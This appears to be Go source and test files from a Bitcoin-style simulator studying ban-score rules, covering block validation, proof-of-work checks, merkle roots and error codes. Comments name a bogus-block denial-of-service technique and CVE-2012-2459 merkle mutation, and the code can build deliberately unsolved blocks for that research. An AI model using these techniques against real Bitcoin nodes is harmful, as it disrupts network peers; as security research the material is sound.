	// ErrPrevBlockMissing: the previous block is unknown — scores 10 per
	// Table I ("Previous block is missing").
	ErrPrevBlockMissing

	// ErrPrevBlockInvalid: the previous block is known-invalid — scores
	// 100 per Table I ("Previous block is invalid").
	ErrPrevBlockInvalid

	// ErrCachedInvalid: this exact block hash was already cached as
	// invalid — scores 100 against outbound peers per Table I.
	ErrCachedInvalid

	// ErrNoTransactions: the block has no transactions at all.
	ErrNoTransactions

	// ErrFirstTxNotCoinbase: the first transaction is not a coinbase.
	ErrFirstTxNotCoinbase

	// ErrMultipleCoinbases: more than one coinbase transaction.
	ErrMultipleCoinbases

	// ErrBlockTooBig: serialized size exceeds the consensus limit.
	ErrBlockTooBig

	// ErrTimeTooNew: header timestamp too far in the future.
	ErrTimeTooNew

	// ErrBadCheckpoint / ErrDuplicateBlock: the block already exists.
	ErrDuplicateBlock
)

// String returns the error code name.
func (e ErrorCode) String() string {
	switch e {
	case ErrHighHash:
		return "ErrHighHash"
	case ErrBadMerkleRoot:
		return "ErrBadMerkleRoot"
	case ErrDuplicateTx:
		return "ErrDuplicateTx"
	case ErrPrevBlockMissing:
		return "ErrPrevBlockMissing"
	case ErrPrevBlockInvalid:
		return "ErrPrevBlockInvalid"
	case ErrCachedInvalid:
		return "ErrCachedInvalid"
	case ErrNoTransactions:
		return "ErrNoTransactions"
	case ErrFirstTxNotCoinbase:
		return "ErrFirstTxNotCoinbase"
	case ErrMultipleCoinbases:
		return "ErrMultipleCoinbases"
	case ErrBlockTooBig:
		return "ErrBlockTooBig"
	case ErrTimeTooNew:
		return "ErrTimeTooNew"
	case ErrDuplicateBlock:
		return "ErrDuplicateBlock"
	}
	return fmt.Sprintf("Unknown ErrorCode (%d)", int(e))
}

// RuleError is a consensus-rule violation found while validating a block.
type RuleError struct {
	Code        ErrorCode
	Description string
}

// Error implements the error interface.
func (e RuleError) Error() string {
	return fmt.Sprintf("%s: %s", e.Code, e.Description)
}

func ruleError(code ErrorCode, desc string) RuleError {
	return RuleError{Code: code, Description: desc}
}

// RuleErrorCode extracts the ErrorCode from err if it is (or wraps) a
// RuleError. The second return is false otherwise.
func RuleErrorCode(err error) (ErrorCode, bool) {
	var re RuleError
	if errors.As(err, &re) {
		return re.Code, true
	}
	return 0, false
}

// IsMutation reports whether err marks the block as "mutated" per the
// Table I BLOCK rule (bad merkle root or duplicated-tx malleation).
func IsMutation(err error) bool {
	code, ok := RuleErrorCode(err)
	return ok && (code == ErrBadMerkleRoot || code == ErrDuplicateTx)
}
