package blockchain

import (
	"math/big"

	"banscore/internal/chainhash"
)

// CompactToBig converts the compact "bits" representation of a difficulty
// target into the full big.Int target, exactly as Bitcoin does.
func CompactToBig(compact uint32) *big.Int {
	mantissa := compact & 0x007fffff
	isNegative := compact&0x00800000 != 0
	exponent := uint(compact >> 24)

	var bn *big.Int
	if exponent <= 3 {
		mantissa >>= 8 * (3 - exponent)
		bn = big.NewInt(int64(mantissa))
	} else {
		bn = big.NewInt(int64(mantissa))
		bn.Lsh(bn, 8*(exponent-3))
	}
	if isNegative {
		bn = bn.Neg(bn)
	}
	return bn
}

// BigToCompact converts a big.Int target to the compact representation.
func BigToCompact(n *big.Int) uint32 {
	if n.Sign() == 0 {
		return 0
	}
	var mantissa uint32
	exponent := uint(len(n.Bytes()))
	if exponent <= 3 {
		mantissa = uint32(n.Bits()[0])
		mantissa <<= 8 * (3 - exponent)
	} else {
		tn := new(big.Int).Set(n)
		mantissa = uint32(tn.Rsh(tn, 8*(exponent-3)).Bits()[0])
	}
	// Normalize mantissa sign bit.
	if mantissa&0x00800000 != 0 {
		mantissa >>= 8
		exponent++
	}
	compact := uint32(exponent<<24) | mantissa
	if n.Sign() < 0 {
		compact |= 0x00800000
	}
	return compact
}

// HashToBig converts a block hash to the big.Int it represents as a
// proof-of-work value (the hash interpreted big-endian).
func HashToBig(hash *chainhash.Hash) *big.Int {
	// Reverse to big-endian.
	buf := *hash
	for i := 0; i < chainhash.HashSize/2; i++ {
		buf[i], buf[chainhash.HashSize-1-i] = buf[chainhash.HashSize-1-i], buf[i]
	}
	return new(big.Int).SetBytes(buf[:])
}

// CheckProofOfWork verifies that the block hash satisfies the target encoded
// in bits and that the target itself is within the chain's proof-of-work
// limit. The bogus-BLOCK BM-DoS attack deliberately fails this check.
func CheckProofOfWork(hash *chainhash.Hash, bits uint32, powLimit *big.Int) error {
	target := CompactToBig(bits)
	if target.Sign() <= 0 {
		return ruleError(ErrHighHash, "target difficulty is not positive")
	}
	if target.Cmp(powLimit) > 0 {
		return ruleError(ErrHighHash, "target difficulty is above the proof-of-work limit")
	}
	if HashToBig(hash).Cmp(target) > 0 {
		return ruleError(ErrHighHash, "block hash is higher than the target difficulty")
	}
	return nil
}
