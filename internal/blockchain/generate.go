package blockchain

import (
	"encoding/binary"
	"errors"
	"time"

	"banscore/internal/chainhash"
	"banscore/internal/wire"
)

// ErrNoSolution is returned when Solve exhausts the nonce space. With the
// simulation difficulty this never happens in practice.
var ErrNoSolution = errors.New("exhausted nonce space without a valid proof of work")

// NewCoinbaseTx builds a minimal coinbase paying to an anyone-can-spend
// script. The height is committed in the signature script (BIP34-style) so
// coinbases at different heights have distinct txids.
func NewCoinbaseTx(height int32, extraNonce uint64) *wire.MsgTx {
	script := make([]byte, 0, 16)
	script = binary.LittleEndian.AppendUint32(script, uint32(height))
	script = binary.LittleEndian.AppendUint64(script, extraNonce)
	tx := wire.NewMsgTx(1)
	tx.AddTxIn(&wire.TxIn{
		PreviousOutPoint: wire.OutPoint{Index: wire.MaxPrevOutIndex},
		SignatureScript:  script,
		Sequence:         wire.MaxTxInSequenceNum,
	})
	tx.AddTxOut(wire.NewTxOut(50*1e8, []byte{0x51}))
	return tx
}

// BuildBlock assembles an unsolved block on top of prevHash carrying a fresh
// coinbase and the given transactions, with a correct merkle root.
func BuildBlock(params *Params, prevHash chainhash.Hash, height int32, extraNonce uint64, timestamp time.Time, txs []*wire.MsgTx) *wire.MsgBlock {
	all := make([]*wire.MsgTx, 0, len(txs)+1)
	all = append(all, NewCoinbaseTx(height, extraNonce))
	all = append(all, txs...)
	hashes := make([]chainhash.Hash, len(all))
	for i, tx := range all {
		hashes[i] = tx.TxHash()
	}
	header := wire.BlockHeader{
		Version:    1,
		PrevBlock:  prevHash,
		MerkleRoot: chainhash.MerkleRoot(hashes),
		Timestamp:  time.Unix(timestamp.Unix(), 0),
		Bits:       params.PowBits,
		Nonce:      0,
	}
	block := wire.NewMsgBlock(&header)
	for _, tx := range all {
		block.AddTransaction(tx)
	}
	return block
}

// Solve grinds the header nonce until the block hash satisfies its target.
// It returns the number of hash attempts performed.
func Solve(block *wire.MsgBlock, powLimit interface{ BitLen() int }) (uint64, error) {
	header := &block.Header
	target := CompactToBig(header.Bits)
	var attempts uint64
	for nonce := uint64(0); nonce <= uint64(^uint32(0)); nonce++ {
		header.Nonce = uint32(nonce)
		attempts++
		hash := header.BlockHash()
		if HashToBig(&hash).Cmp(target) <= 0 {
			return attempts, nil
		}
	}
	return attempts, ErrNoSolution
}

// GenerateBlock builds and solves the next block on the chain tip,
// returning it without connecting it. Tests and the miner use it to produce
// valid blocks; the attacker uses BuildBlock without Solve for bogus ones.
func GenerateBlock(c *Chain, extraNonce uint64, txs []*wire.MsgTx) (*wire.MsgBlock, error) {
	prev := c.BestHash()
	height := c.BestHeight() + 1
	block := BuildBlock(c.Params(), prev, height, extraNonce, c.now(), txs)
	if _, err := Solve(block, c.Params().PowLimit); err != nil {
		return nil, err
	}
	return block, nil
}
