package blockchain

import (
	"errors"
	"math/big"
	"testing"
	"testing/quick"
	"time"

	"banscore/internal/chainhash"
	"banscore/internal/wire"
)

func fixedClock() func() time.Time {
	at := time.Unix(1700000000, 0)
	return func() time.Time { return at }
}

func newTestChain(t *testing.T) *Chain {
	t.Helper()
	return New(SimNetParams(), WithClock(fixedClock()))
}

// mustGenerate mines and connects n blocks, returning the last one.
func mustGenerate(t *testing.T, c *Chain, n int) *wire.MsgBlock {
	t.Helper()
	var last *wire.MsgBlock
	for i := 0; i < n; i++ {
		block, err := GenerateBlock(c, uint64(i), nil)
		if err != nil {
			t.Fatalf("GenerateBlock: %v", err)
		}
		if _, err := c.ProcessBlock(block); err != nil {
			t.Fatalf("ProcessBlock: %v", err)
		}
		last = block
	}
	return last
}

func TestNewChainStartsAtGenesis(t *testing.T) {
	c := newTestChain(t)
	if c.BestHeight() != 0 {
		t.Errorf("BestHeight = %d, want 0", c.BestHeight())
	}
	if c.BestHash() != c.Params().GenesisHash {
		t.Error("tip is not genesis")
	}
	if !c.HaveBlock(&c.Params().GenesisHash) {
		t.Error("genesis not in index")
	}
}

func TestProcessValidChain(t *testing.T) {
	c := newTestChain(t)
	mustGenerate(t, c, 5)
	if c.BestHeight() != 5 {
		t.Errorf("BestHeight = %d, want 5", c.BestHeight())
	}
}

func TestProcessDuplicateBlock(t *testing.T) {
	c := newTestChain(t)
	block := mustGenerate(t, c, 1)
	_, err := c.ProcessBlock(block)
	if code, ok := RuleErrorCode(err); !ok || code != ErrDuplicateBlock {
		t.Errorf("duplicate block error = %v, want ErrDuplicateBlock", err)
	}
}

func TestProcessInvalidPoW(t *testing.T) {
	params := HardNetParams()
	c := New(params, WithClock(fixedClock()))
	// Build without solving: at hardnet difficulty an unsolved block has
	// essentially no chance of satisfying the target.
	block := BuildBlock(params, c.BestHash(), 1, 1, fixedClock()(), nil)
	_, err := c.ProcessBlock(block)
	if code, ok := RuleErrorCode(err); !ok || code != ErrHighHash {
		t.Fatalf("unsolved block error = %v, want ErrHighHash", err)
	}
	// PoW failures must be cached so resends hit the invalid cache.
	hash := block.BlockHash()
	if !c.IsKnownInvalid(&hash) {
		t.Error("invalid-PoW block not cached as invalid")
	}
	_, err = c.ProcessBlock(block)
	if code, ok := RuleErrorCode(err); !ok || code != ErrCachedInvalid {
		t.Errorf("resent invalid block error = %v, want ErrCachedInvalid", err)
	}
}

func TestProcessMutatedBlockNotCached(t *testing.T) {
	c := newTestChain(t)
	block, err := GenerateBlock(c, 7, []*wire.MsgTx{spendTx(1)})
	if err != nil {
		t.Fatal(err)
	}
	// Mutate: swap in a different transaction without fixing the merkle root.
	block.Transactions[1] = spendTx(2)
	_, err = c.ProcessBlock(block)
	if code, ok := RuleErrorCode(err); !ok || code != ErrBadMerkleRoot {
		t.Fatalf("mutated block error = %v, want ErrBadMerkleRoot", err)
	}
	if !IsMutation(err) {
		t.Error("IsMutation(bad merkle) = false")
	}
	hash := block.BlockHash()
	if c.IsKnownInvalid(&hash) {
		t.Error("mutated block must NOT be cached as invalid (hash does not commit to mutation)")
	}
}

func TestProcessDuplicateTailMutation(t *testing.T) {
	c := newTestChain(t)
	tx := spendTx(1)
	block, err := GenerateBlock(c, 7, []*wire.MsgTx{tx, tx.Copy()})
	if err != nil {
		t.Fatal(err)
	}
	_, err = c.ProcessBlock(block)
	if code, ok := RuleErrorCode(err); !ok || code != ErrDuplicateTx {
		t.Fatalf("duplicate tail error = %v, want ErrDuplicateTx", err)
	}
	if !IsMutation(err) {
		t.Error("IsMutation(duplicate tail) = false")
	}
}

func TestProcessPrevBlockMissing(t *testing.T) {
	c := newTestChain(t)
	orphanPrev := chainhash.DoubleHashH([]byte("unknown parent"))
	block := BuildBlock(c.Params(), orphanPrev, 1, 1, fixedClock()(), nil)
	if _, err := Solve(block, c.Params().PowLimit); err != nil {
		t.Fatal(err)
	}
	_, err := c.ProcessBlock(block)
	if code, ok := RuleErrorCode(err); !ok || code != ErrPrevBlockMissing {
		t.Fatalf("orphan block error = %v, want ErrPrevBlockMissing", err)
	}
	// Orphans are not invalid: the parent may arrive later.
	hash := block.BlockHash()
	if c.IsKnownInvalid(&hash) {
		t.Error("orphan cached as invalid")
	}
}

func TestProcessPrevBlockInvalid(t *testing.T) {
	c := newTestChain(t)
	badPrev := chainhash.DoubleHashH([]byte("a bad block"))
	c.MarkInvalid(&badPrev, ErrHighHash)
	block := BuildBlock(c.Params(), badPrev, 1, 1, fixedClock()(), nil)
	if _, err := Solve(block, c.Params().PowLimit); err != nil {
		t.Fatal(err)
	}
	_, err := c.ProcessBlock(block)
	if code, ok := RuleErrorCode(err); !ok || code != ErrPrevBlockInvalid {
		t.Fatalf("child-of-invalid error = %v, want ErrPrevBlockInvalid", err)
	}
	// Descendants of invalid blocks become invalid themselves.
	hash := block.BlockHash()
	if !c.IsKnownInvalid(&hash) {
		t.Error("child of invalid block not cached as invalid")
	}
}

func TestCheckBlockSanityRejections(t *testing.T) {
	c := newTestChain(t)
	now := fixedClock()()

	build := func(mutate func(*wire.MsgBlock)) *wire.MsgBlock {
		block := BuildBlock(c.Params(), c.BestHash(), 1, 1, now, nil)
		mutate(block)
		_, _ = Solve(block, c.Params().PowLimit)
		return block
	}

	tests := []struct {
		name   string
		block  *wire.MsgBlock
		want   ErrorCode
		reMine bool
	}{
		{
			name: "no transactions",
			block: build(func(b *wire.MsgBlock) {
				b.ClearTransactions()
			}),
			want: ErrNoTransactions,
		},
		{
			name: "first tx not coinbase",
			block: func() *wire.MsgBlock {
				b := BuildBlock(c.Params(), c.BestHash(), 1, 1, now, nil)
				b.Transactions[0] = spendTx(1)
				fixMerkle(b)
				_, _ = Solve(b, c.Params().PowLimit)
				return b
			}(),
			want: ErrFirstTxNotCoinbase,
		},
		{
			name: "multiple coinbases",
			block: func() *wire.MsgBlock {
				b := BuildBlock(c.Params(), c.BestHash(), 1, 1, now, nil)
				b.AddTransaction(NewCoinbaseTx(1, 99))
				fixMerkle(b)
				_, _ = Solve(b, c.Params().PowLimit)
				return b
			}(),
			want: ErrMultipleCoinbases,
		},
		{
			name: "timestamp too new",
			block: func() *wire.MsgBlock {
				b := BuildBlock(c.Params(), c.BestHash(), 1, 1, now.Add(3*time.Hour), nil)
				_, _ = Solve(b, c.Params().PowLimit)
				return b
			}(),
			want: ErrTimeTooNew,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := c.CheckBlockSanity(tt.block)
			if code, ok := RuleErrorCode(err); !ok || code != tt.want {
				t.Errorf("CheckBlockSanity = %v, want %s", err, tt.want)
			}
		})
	}
}

func TestForkDoesNotAdvanceTip(t *testing.T) {
	c := newTestChain(t)
	mustGenerate(t, c, 3)
	tipHash := c.BestHash()
	// Build a competing block at height 1 (fork from genesis).
	fork := BuildBlock(c.Params(), c.Params().GenesisHash, 1, 999, fixedClock()(), nil)
	if _, err := Solve(fork, c.Params().PowLimit); err != nil {
		t.Fatal(err)
	}
	height, err := c.ProcessBlock(fork)
	if err != nil {
		t.Fatalf("fork block rejected: %v", err)
	}
	if height != 1 {
		t.Errorf("fork height = %d, want 1", height)
	}
	if c.BestHash() != tipHash || c.BestHeight() != 3 {
		t.Error("shorter fork advanced the tip")
	}
}

func TestBlockHeight(t *testing.T) {
	c := newTestChain(t)
	block := mustGenerate(t, c, 2)
	hash := block.BlockHash()
	if got := c.BlockHeight(&hash); got != 2 {
		t.Errorf("BlockHeight = %d, want 2", got)
	}
	unknown := chainhash.DoubleHashH([]byte("nope"))
	if got := c.BlockHeight(&unknown); got != -1 {
		t.Errorf("BlockHeight(unknown) = %d, want -1", got)
	}
}

func TestCheckHeadersContinuity(t *testing.T) {
	c := newTestChain(t)
	b1, err := GenerateBlock(c, 1, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.ProcessBlock(b1); err != nil {
		t.Fatal(err)
	}
	b2, err := GenerateBlock(c, 2, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.ProcessBlock(b2); err != nil {
		t.Fatal(err)
	}

	good := []*wire.BlockHeader{&b1.Header, &b2.Header}
	if !CheckHeadersContinuity(good) {
		t.Error("continuous headers reported discontinuous")
	}
	bad := []*wire.BlockHeader{&b2.Header, &b1.Header}
	if CheckHeadersContinuity(bad) {
		t.Error("discontinuous headers reported continuous")
	}
	if !CheckHeadersContinuity(nil) || !CheckHeadersContinuity(good[:1]) {
		t.Error("trivial sequences must be continuous")
	}
}

func TestHeadersConnect(t *testing.T) {
	c := newTestChain(t)
	b1, err := GenerateBlock(c, 1, nil)
	if err != nil {
		t.Fatal(err)
	}
	connecting := []*wire.BlockHeader{&b1.Header}
	if !c.HeadersConnect(connecting) {
		t.Error("header building on genesis reported non-connecting")
	}
	orphanPrev := chainhash.DoubleHashH([]byte("nowhere"))
	orphan := wire.BlockHeader{PrevBlock: orphanPrev}
	if c.HeadersConnect([]*wire.BlockHeader{&orphan}) {
		t.Error("orphan header reported connecting")
	}
	if !c.HeadersConnect(nil) {
		t.Error("empty headers must connect")
	}
}

func TestIsCoinbase(t *testing.T) {
	if !IsCoinbase(NewCoinbaseTx(1, 0)) {
		t.Error("coinbase not recognized")
	}
	if IsCoinbase(spendTx(1)) {
		t.Error("spend recognized as coinbase")
	}
}

func TestCompactBigRoundTrip(t *testing.T) {
	tests := []uint32{0x1d00ffff, 0x207fffff, 0x1b0404cb}
	for _, bits := range tests {
		big := CompactToBig(bits)
		if got := BigToCompact(big); got != bits {
			t.Errorf("BigToCompact(CompactToBig(%#x)) = %#x", bits, got)
		}
	}
	if BigToCompact(big.NewInt(0)) != 0 {
		t.Error("BigToCompact(0) != 0")
	}
}

func TestCompactToBigNegative(t *testing.T) {
	n := CompactToBig(0x03800001) // sign bit set, mantissa 1 at exponent 3 → -1
	if n.Sign() >= 0 {
		t.Errorf("negative compact decoded as %v", n)
	}
	if got := BigToCompact(n); got&0x00800000 == 0 {
		t.Errorf("sign bit lost: %#x", got)
	}
}

func TestCheckProofOfWorkTargetValidation(t *testing.T) {
	h := chainhash.DoubleHashH([]byte("x"))
	limit := SimNetParams().PowLimit
	if err := CheckProofOfWork(&h, 0x00000000, limit); err == nil {
		t.Error("zero target accepted")
	}
	// Target above the limit.
	huge := BigToCompact(new(big.Int).Lsh(big.NewInt(1), 256))
	if err := CheckProofOfWork(&h, huge, limit); err == nil {
		t.Error("target above pow limit accepted")
	}
}

func TestSolveCountsAttempts(t *testing.T) {
	params := SimNetParams()
	c := New(params, WithClock(fixedClock()))
	block := BuildBlock(params, c.BestHash(), 1, 1, fixedClock()(), nil)
	attempts, err := Solve(block, params.PowLimit)
	if err != nil {
		t.Fatal(err)
	}
	if attempts == 0 {
		t.Error("Solve reported zero attempts")
	}
}

func TestGenerateBlockPropertyValid(t *testing.T) {
	c := newTestChain(t)
	f := func(extraNonce uint64) bool {
		block, err := GenerateBlock(c, extraNonce, nil)
		if err != nil {
			return false
		}
		return c.CheckBlockSanity(block) == nil
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 20}); err != nil {
		t.Error(err)
	}
}

func TestRuleErrorHelpers(t *testing.T) {
	err := ruleError(ErrHighHash, "nope")
	if err.Error() == "" {
		t.Error("empty error string")
	}
	if code, ok := RuleErrorCode(err); !ok || code != ErrHighHash {
		t.Error("RuleErrorCode failed on direct RuleError")
	}
	wrapped := errorsJoin(err)
	if code, ok := RuleErrorCode(wrapped); !ok || code != ErrHighHash {
		t.Error("RuleErrorCode failed on wrapped RuleError")
	}
	if _, ok := RuleErrorCode(errors.New("other")); ok {
		t.Error("RuleErrorCode matched a non-rule error")
	}
	if ErrorCode(999).String() != "Unknown ErrorCode (999)" {
		t.Errorf("unknown code string = %q", ErrorCode(999))
	}
	for code := ErrHighHash; code <= ErrDuplicateBlock; code++ {
		if code.String() == "" || code.String()[0] != 'E' {
			t.Errorf("code %d has bad name %q", code, code.String())
		}
	}
}

func errorsJoin(err error) error {
	return &wrapErr{err}
}

type wrapErr struct{ inner error }

func (w *wrapErr) Error() string { return "wrapped: " + w.inner.Error() }
func (w *wrapErr) Unwrap() error { return w.inner }

// spendTx builds a non-coinbase transaction.
func spendTx(n byte) *wire.MsgTx {
	tx := wire.NewMsgTx(wire.TxVersion)
	prev := chainhash.DoubleHashH([]byte{n})
	tx.AddTxIn(wire.NewTxIn(wire.NewOutPoint(&prev, 0), []byte{0x51}, nil))
	tx.AddTxOut(wire.NewTxOut(1000, []byte{0x51}))
	return tx
}

// fixMerkle recomputes the header merkle root after transaction edits.
func fixMerkle(b *wire.MsgBlock) {
	b.Header.MerkleRoot = chainhash.MerkleRoot(b.TxHashes())
}

func TestBlockLocatorShape(t *testing.T) {
	c := newTestChain(t)
	mustGenerate(t, c, 40)
	locator := c.BlockLocator()
	if len(locator) == 0 {
		t.Fatal("empty locator")
	}
	// Starts at the tip, ends at genesis.
	if *locator[0] != c.BestHash() {
		t.Error("locator does not start at the tip")
	}
	if *locator[len(locator)-1] != c.Params().GenesisHash {
		t.Error("locator does not end at genesis")
	}
	// Exponential backoff keeps it compact: ~10 + log2(height).
	if len(locator) > 20 {
		t.Errorf("locator has %d entries for height 40", len(locator))
	}
}

func TestHeadersAfterFromLocator(t *testing.T) {
	c := newTestChain(t)
	var hashes []chainhash.Hash
	for i := 0; i < 10; i++ {
		block := mustGenerate(t, c, 1)
		hashes = append(hashes, block.BlockHash())
	}

	// Locator at height 4: serve headers 5..10 in ascending order.
	locator := []*chainhash.Hash{&hashes[3]}
	headers := c.HeadersAfter(locator, 2000)
	if len(headers) != 6 {
		t.Fatalf("served %d headers, want 6", len(headers))
	}
	for i, h := range headers {
		if h.BlockHash() != hashes[4+i] {
			t.Errorf("header %d out of order", i)
		}
	}

	// Max is honored, serving the continuation window right after the
	// locator (the syncing peer asks again from its new tip).
	capped := c.HeadersAfter(locator, 2)
	if len(capped) != 2 || capped[0].BlockHash() != hashes[4] || capped[1].BlockHash() != hashes[5] {
		t.Errorf("capped serve wrong: %d headers", len(capped))
	}

	// Unknown locator serves from genesis.
	unknown := chainhash.DoubleHashH([]byte("unknown"))
	all := c.HeadersAfter([]*chainhash.Hash{&unknown}, 2000)
	if len(all) != 10 {
		t.Errorf("unknown locator served %d, want all 10", len(all))
	}

	// Locator at the tip serves nothing.
	tip := c.BestHash()
	if got := c.HeadersAfter([]*chainhash.Hash{&tip}, 2000); len(got) != 0 {
		t.Errorf("tip locator served %d headers", len(got))
	}
}
