package chainhash

// MerkleRoot computes the Bitcoin merkle root of the given leaf hashes.
// Bitcoin's merkle tree duplicates the final hash of odd-length levels; that
// quirk is what makes block "mutation" (CVE-2012-2459 style duplicate-leaf
// malleability) detectable, and the BLOCK "mutated" ban rule depends on it.
// An empty leaf set yields the zero hash.
func MerkleRoot(leaves []Hash) Hash {
	switch len(leaves) {
	case 0:
		return ZeroHash
	case 1:
		return leaves[0]
	}
	level := make([]Hash, len(leaves))
	copy(level, leaves)
	var buf [HashSize * 2]byte
	for len(level) > 1 {
		if len(level)%2 != 0 {
			level = append(level, level[len(level)-1])
		}
		next := level[:len(level)/2]
		for i := range next {
			copy(buf[:HashSize], level[2*i][:])
			copy(buf[HashSize:], level[2*i+1][:])
			next[i] = DoubleHashH(buf[:])
		}
		level = next
	}
	return level[0]
}

// HasDuplicateTail reports whether the leaf set ends with two identical
// hashes, the signature of the classic merkle-mutation malleation in which an
// attacker duplicates the last transaction to produce a distinct block with
// the same merkle root.
func HasDuplicateTail(leaves []Hash) bool {
	n := len(leaves)
	return n >= 2 && leaves[n-1] == leaves[n-2]
}
