package chainhash

import (
	"bytes"
	"encoding/hex"
	"strings"
	"testing"
	"testing/quick"
)

func TestHashString(t *testing.T) {
	// The genesis block hash, little-endian wire order.
	wire, err := hex.DecodeString("6fe28c0ab6f1b372c1a6a246ae63f74f931e8365e15a089c68d6190000000000")
	if err != nil {
		t.Fatal(err)
	}
	h, err := NewHash(wire)
	if err != nil {
		t.Fatal(err)
	}
	want := "000000000019d6689c085ae165831e934ff763ae46a2a6c172b3f1b60a8ce26f"
	if got := h.String(); got != want {
		t.Errorf("String() = %q, want %q", got, want)
	}
}

func TestNewHashFromStrRoundTrip(t *testing.T) {
	const s = "000000000019d6689c085ae165831e934ff763ae46a2a6c172b3f1b60a8ce26f"
	h, err := NewHashFromStr(s)
	if err != nil {
		t.Fatal(err)
	}
	if got := h.String(); got != s {
		t.Errorf("round trip = %q, want %q", got, s)
	}
}

func TestNewHashFromStrShortPadded(t *testing.T) {
	h, err := NewHashFromStr("1")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasSuffix(h.String(), "1") || strings.Trim(h.String()[:63], "0") != "" {
		t.Errorf("short string not zero padded: %q", h.String())
	}
}

func TestNewHashFromStrErrors(t *testing.T) {
	tests := []struct {
		name string
		in   string
	}{
		{"too long", strings.Repeat("a", MaxHashStringSize+1)},
		{"bad hex", "zz"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := NewHashFromStr(tt.in); err == nil {
				t.Errorf("NewHashFromStr(%q) = nil error, want error", tt.in)
			}
		})
	}
}

func TestNewHashLength(t *testing.T) {
	if _, err := NewHash(make([]byte, 31)); err == nil {
		t.Error("NewHash(31 bytes) should fail")
	}
	if _, err := NewHash(make([]byte, 32)); err != nil {
		t.Errorf("NewHash(32 bytes) = %v", err)
	}
}

func TestIsEqual(t *testing.T) {
	a := DoubleHashH([]byte("a"))
	b := DoubleHashH([]byte("b"))
	aCopy := a
	if !a.IsEqual(&aCopy) {
		t.Error("identical hashes reported unequal")
	}
	if a.IsEqual(&b) {
		t.Error("different hashes reported equal")
	}
	var nilHash *Hash
	if nilHash.IsEqual(&a) || a.IsEqual(nil) {
		t.Error("nil / non-nil should be unequal")
	}
	if !nilHash.IsEqual(nil) {
		t.Error("nil / nil should be equal")
	}
}

func TestCloneBytesIndependent(t *testing.T) {
	h := DoubleHashH([]byte("x"))
	c := h.CloneBytes()
	c[0] ^= 0xff
	if bytes.Equal(c, h[:]) {
		t.Error("CloneBytes aliases the hash storage")
	}
}

func TestDoubleHashKnownVector(t *testing.T) {
	// SHA256d("hello") is a well-known vector.
	got := DoubleHashH([]byte("hello"))
	want := "9595c9df90075148eb06860365df33584b75bff782a510c6cd4883a419833d50"
	if hex.EncodeToString(got[:]) != want {
		t.Errorf("DoubleHashH(hello) = %x, want %s", got[:], want)
	}
	if !bytes.Equal(DoubleHashB([]byte("hello")), got[:]) {
		t.Error("DoubleHashB and DoubleHashH disagree")
	}
}

func TestHashBMatchesHashH(t *testing.T) {
	h := HashH([]byte("payload"))
	if !bytes.Equal(HashB([]byte("payload")), h[:]) {
		t.Error("HashB and HashH disagree")
	}
}

func TestStringRoundTripProperty(t *testing.T) {
	f := func(b [HashSize]byte) bool {
		h := Hash(b)
		parsed, err := NewHashFromStr(h.String())
		return err == nil && parsed.IsEqual(&h)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestMerkleRootEmpty(t *testing.T) {
	if got := MerkleRoot(nil); got != ZeroHash {
		t.Errorf("MerkleRoot(nil) = %v, want zero", got)
	}
}

func TestMerkleRootSingle(t *testing.T) {
	h := DoubleHashH([]byte("tx"))
	if got := MerkleRoot([]Hash{h}); got != h {
		t.Errorf("MerkleRoot(single) = %v, want the leaf itself", got)
	}
}

func TestMerkleRootPair(t *testing.T) {
	a := DoubleHashH([]byte("a"))
	b := DoubleHashH([]byte("b"))
	var buf [64]byte
	copy(buf[:32], a[:])
	copy(buf[32:], b[:])
	want := DoubleHashH(buf[:])
	if got := MerkleRoot([]Hash{a, b}); got != want {
		t.Errorf("MerkleRoot(pair) = %v, want %v", got, want)
	}
}

func TestMerkleRootOddDuplicatesLast(t *testing.T) {
	a := DoubleHashH([]byte("a"))
	b := DoubleHashH([]byte("b"))
	c := DoubleHashH([]byte("c"))
	// Odd level duplicates the last leaf: [a b c] == [a b c c].
	if MerkleRoot([]Hash{a, b, c}) != MerkleRoot([]Hash{a, b, c, c}) {
		t.Error("odd-length level should behave as if the last hash were duplicated")
	}
}

func TestMerkleRootDoesNotMutateInput(t *testing.T) {
	leaves := []Hash{DoubleHashH([]byte("a")), DoubleHashH([]byte("b")), DoubleHashH([]byte("c"))}
	orig := make([]Hash, len(leaves))
	copy(orig, leaves)
	MerkleRoot(leaves)
	for i := range leaves {
		if leaves[i] != orig[i] {
			t.Fatalf("leaf %d mutated", i)
		}
	}
}

func TestMerkleRootOrderSensitiveProperty(t *testing.T) {
	f := func(a, b [HashSize]byte) bool {
		if a == b {
			return true
		}
		ha, hb := Hash(a), Hash(b)
		return MerkleRoot([]Hash{ha, hb}) != MerkleRoot([]Hash{hb, ha})
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestHasDuplicateTail(t *testing.T) {
	a := DoubleHashH([]byte("a"))
	b := DoubleHashH([]byte("b"))
	tests := []struct {
		name   string
		leaves []Hash
		want   bool
	}{
		{"empty", nil, false},
		{"single", []Hash{a}, false},
		{"distinct pair", []Hash{a, b}, false},
		{"duplicate pair", []Hash{a, a}, true},
		{"duplicate tail", []Hash{b, a, a}, true},
		{"duplicate head only", []Hash{a, a, b}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := HasDuplicateTail(tt.leaves); got != tt.want {
				t.Errorf("HasDuplicateTail = %v, want %v", got, tt.want)
			}
		})
	}
}
