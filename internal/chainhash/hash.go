// Package chainhash provides the 32-byte hash type and the double-SHA256
// primitives used throughout the Bitcoin wire protocol and chain validation.
package chainhash

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
)

// HashSize is the size in bytes of a Hash.
const HashSize = 32

// MaxHashStringSize is the maximum length of a Hash hex string.
const MaxHashStringSize = HashSize * 2

// ErrHashStrSize describes an error where a hash string has an invalid length.
var ErrHashStrSize = fmt.Errorf("max hash string length is %d bytes", MaxHashStringSize)

// Hash is a 32-byte value used throughout Bitcoin for block hashes, merkle
// roots, and transaction ids. The bytes are stored in little-endian wire
// order; String renders the conventional big-endian hex form.
type Hash [HashSize]byte

// String returns the Hash in the reversed-hex form used by Bitcoin tooling.
